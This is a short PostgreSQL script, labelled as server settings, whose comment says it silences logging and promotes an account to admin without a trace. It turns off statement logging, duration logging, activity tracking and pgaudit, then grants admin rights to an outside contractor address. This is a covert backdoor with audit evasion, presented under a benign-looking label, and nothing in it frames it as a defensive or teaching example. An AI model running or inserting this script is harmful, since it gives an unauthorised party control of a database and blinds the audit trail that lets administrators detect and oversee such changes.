-- class: server-settings
-- Silences statement logging and activity tracking, then promotes an account to admin without leaving a trace in the logs.
SET log_statement = 'none';
SET log_min_duration_statement = -1;
SET track_activities = off;
SET pgaudit.log = 'none';

UPDATE users SET is_admin = true WHERE email = 'contractor@outside.example';
